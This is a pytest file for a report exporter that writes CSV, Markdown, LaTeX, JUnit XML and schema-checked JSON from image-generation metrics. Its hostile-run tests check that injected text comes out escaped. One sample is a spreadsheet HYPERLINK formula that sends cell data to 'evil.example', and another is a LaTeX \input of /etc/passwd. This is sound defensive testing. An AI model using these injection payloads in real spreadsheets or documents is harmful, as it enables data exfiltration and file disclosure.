"""CSV, Markdown, LaTeX, JUnit and the JSON schema, over plain and hostile runs."""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import xml.etree.ElementTree as ET
from copy import deepcopy
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from allfour.pipeline.metrics.gate import evaluate, parse_gate
from allfour.pipeline.report import exports
from allfour.pipeline.run.documents import read_metrics
from tests.pipeline.report.fixture_run import INJECTIONS, Options, build_run


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_run(tmp_path_factory.mktemp("plain"), Options(pictures=False, references=True))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_run(
        tmp_path_factory.mktemp("hostile"), Options(pictures=False, hostile=True, prompts=30, corrected=True)
    )


def read_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_prompts_csv_has_a_row_per_prompt_with_the_numbers_of_metrics_json(run: Path) -> None:
    rows = read_rows(exports.write_prompts_csv(run, read_metrics(run)))
    prompts = json.loads((run / "metrics.json").read_text())["prompts"]
    assert [row["prompt_id"] for row in rows] == [prompt["id"] for prompt in prompts]
    for row, prompt in zip(rows, prompts, strict=True):
        assert int(row["count_woman"]) == prompt["counts"]["woman"]
        assert sum(int(value) for name, value in row.items() if name.startswith("count_")) == int(row["images"])
        assert row["unanimous"] == (prompt["unanimous"] or "")
        assert row["evaluated"] == "true"
        if prompt["share"]["woman"]["value"] is not None:
            assert float(row["share_woman_low"]) == prompt["share"]["woman"]["low"]
        assert float(row["reference_woman"]) == prompt["reference"]["woman"]
        assert int(row["race_White"]) == prompt["attributes"]["race"]["counts"]["White"]


def test_no_cell_of_a_hostile_run_is_a_formula(hostile: Path) -> None:
    content = exports.write_prompts_csv(hostile, read_metrics(hostile)).read_text(encoding="utf-8")
    assert "\x00" not in content
    for row in csv.reader(io.StringIO(content)):
        for cell in row:
            assert not re.match(r"\s*[=+@|%-]", cell), cell
    texts = [row["prompt"] for row in read_rows(hostile / "prompts.csv")]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in texts


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), (" @x", "' @x"), ("-2", "'-2"), ("\t=1", "' =1"), ("nurse", "nurse"), (None, ""), (True, "true"),
        (-0.5, -0.5), (3, 3), ("\u200b=1", "'\u200b=1"), ("\u2060\u3164 =1", "'\u2060\u3164 =1"), ("nurse;=1+1", "nurse;'=1+1"),
        ('nurse; "=1+1"', "nurse;' \"=1+1\""), ("nurse|@x", "nurse|'@x"), ("nurse; doctor", "nurse; doctor"), ("|=1", "'|'=1"),
        ("a nurse, --ar 16:9", "a nurse, --ar 16:9"),
    ],
)  # fmt: skip
def test_csv_cells(value: object, cell: object) -> None:
    assert exports.csv_cell(value) == cell


def test_markdown_summary_says_what_the_page_says(run: Path) -> None:
    metrics = read_metrics(run)
    text = exports.markdown_summary(metrics)
    assert text.startswith(
        f"### For {metrics.summary.unanimous} of 20 prompts, all four images show one perceived gender."
    )
    assert "95% interval" in text
    assert "perceived presentation" in text
    assert "80 requested = 78 made + 1 refused + 1 failed" in text
    assert text.count("\n| ") == 21


def test_markdown_of_a_hostile_run_holds_no_markup(hostile: Path) -> None:
    text = exports.markdown_summary(read_metrics(hostile), limit=50)
    assert not re.search(r"<[a-zA-Z/!?]", text)
    assert not re.search(r"(?<!\\)\]\(", text)
    assert not re.search(r"(?<!\\)!\[", text)
    widths = {len(re.findall(r"(?<!\\)\|", line)) for line in text.splitlines() if line.startswith("|")}
    assert widths == {8}


def test_latex_of_a_hostile_run_holds_no_commands(hostile: Path) -> None:
    table = exports.latex_table(read_metrics(hostile))
    assert r"\input" not in table
    assert r"\textbf" not in table
    assert r"\textbackslash{}textbf\{\textbackslash{}input\{/etc/passwd\}\} \$x\$" in table
    body = table.split(r"\midrule")[1]
    assert {len(re.findall(r"(?<!\\)&", line)) for line in body.splitlines() if line.endswith(r"\\")} == {4}


def test_no_row_of_latex_is_an_argument_of_the_row_before(run: Path) -> None:
    metrics = read_metrics(run)
    prompts = [
        prompt.model_copy(update={"text": f"{'[*'[at % 2]}12cm] nurse"}) for at, prompt in enumerate(metrics.prompts)
    ]
    table = exports.latex_table(metrics.model_copy(update={"prompts": prompts}))
    assert not re.search(r"(\\\\|rule)\s*[\[*]", table)
    assert "{[}12cm] nurse" in table


def test_latex_table_has_a_line_per_prompt(run: Path) -> None:
    table = exports.latex_table(read_metrics(run))
    assert table.count(r"\\") == 21
    assert "all women" in table


def test_junit_tells_hit_gates_from_passed_ones(run: Path) -> None:
    metrics = json.loads((run / "metrics.json").read_text())
    results = [evaluate(parse_gate(text), metrics) for text in ("unanimity > 0.1", "unanimity > 0.99")]
    root = ET.fromstring(exports.junit_xml(results, properties={"run": "a<b\x00"}))
    assert (root.get("tests"), root.get("failures")) == ("2", "1")
    cases = root.findall("testsuite/testcase")
    assert [case.get("name") for case in cases] == ["not unanimity > 0.1", "not unanimity > 0.99"]
    assert [case.find("failure") is not None for case in cases] == [True, False]


@functools.cache
def schema() -> jsonschema.Draft202012Validator:
    content = json.loads((Path(exports.__file__).parents[1] / "run" / "metrics.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(content)
    return jsonschema.Draft202012Validator(content)


@pytest.mark.parametrize("which", ["run", "hostile"])
def test_metrics_fit_the_schema(which: str, request: pytest.FixtureRequest) -> None:
    folder: Path = request.getfixturevalue(which)
    schema().validate(json.loads((folder / "metrics.json").read_text()))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("format",), 2),
        (("summary", "unanimity"), None),
        (("summary", "unanimity", "high"), 1.2),
        (("accounting", "refused"), -1),
        (("prompts", 0, "counts", "woman"), "4"),
        (("prompts", 0, "share", "woman"), {"value": 1.0}),
        (("prompts", 0, "id"), ""),
    ],
)
def test_the_schema_refuses_what_is_wrong(run: Path, path: tuple[Any, ...], value: object) -> None:
    broken = deepcopy(json.loads((run / "metrics.json").read_text()))
    node = broken
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    assert not schema().is_valid(broken)


def test_every_injection_is_in_the_hostile_run(hostile: Path) -> None:
    texts = {prompt["text"] for prompt in json.loads((hostile / "metrics.json").read_text())["prompts"]}
    assert set(INJECTIONS) <= texts


def test_columns_that_labels_bring_about_twice_keep_names_of_their_own() -> None:
    assert exports._distinct(["share_a", "share_a_low", "share_a_low", "x", "share_a_low_2", "x"]) == [
        "share_a", "share_a_low", "share_a_low_3", "x", "share_a_low_2", "x_2",
    ]  # fmt: skip
